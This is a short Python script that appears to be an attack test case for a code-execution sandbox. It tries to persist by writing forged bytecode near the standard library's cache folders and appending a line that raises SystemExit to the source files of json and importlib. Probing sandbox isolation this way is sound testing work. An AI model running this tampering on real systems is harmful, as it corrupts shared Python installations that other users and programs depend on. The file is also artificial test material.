# /// attack
# category = "persistence"
# kind = "stdio"
# success = "benign_tainted"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Writes poisoned bytecode into the cache folders of the standard library."
# ///

import importlib.util
import json.decoder
import marshal
import os

poison = marshal.dumps(compile("raise SystemExit('tainted')", "poison", "exec"))
for module in (json.decoder, json, importlib.util):
    path = importlib.util.cache_from_source(module.__file__)
    try:
        status = os.stat(module.__file__)
        times = int(status.st_mtime).to_bytes(4, "little") + status.st_size.to_bytes(4, "little")
        with open(path + ".pwn", "wb") as file:
            file.write(importlib.util.MAGIC_NUMBER + b"\0" * 4 + times + poison)
        os.unlink(path + ".pwn")
        with open(module.__file__, "a") as file:
            file.write("\nraise SystemExit('tainted')\n")
    except OSError as error:
        print("blocked", error)
